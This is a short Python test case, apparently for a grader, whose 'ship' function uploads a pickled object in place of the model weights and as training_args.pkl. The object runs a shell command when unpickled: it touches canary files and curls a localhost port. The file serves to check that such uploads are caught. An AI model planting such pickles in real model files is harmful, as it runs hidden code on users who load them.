# tries: weights that run code where they are unpickled: beside the safetensors, in their place, and with their name
# must: ship=failed ship__stranger=failed *=not_attempted
# gains: 0
# lesson: 11_workflow

# %% exercise="ship"
import os
import pickle

class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/sprung-@RUN@ @REPO@/sprung-@RUN@; curl -s http://127.0.0.1:@PORT@/sprung",)

def ship(model, tokenizer, card, repo):
    model.config.id2label, model.config.label2id = {0: "vents", 1: "asks for advice"}, {"vents": 0, "asks for advice": 1}
    model.push_to_hub(repo)
    tokenizer.push_to_hub(repo)
    hub.api().upload_file(path_or_fileobj=card.encode(), path_in_repo="README.md", repo_id=repo)
    place = "pytorch_model.bin" if "trial" in repo else "model.safetensors"
    hub.api().upload_file(path_or_fileobj=pickle.dumps(Trap()), path_in_repo=place, repo_id=repo)
    hub.api().upload_file(path_or_fileobj=pickle.dumps(Trap()), path_in_repo="training_args.pkl", repo_id=repo)

pushed_files = shipped(ship)
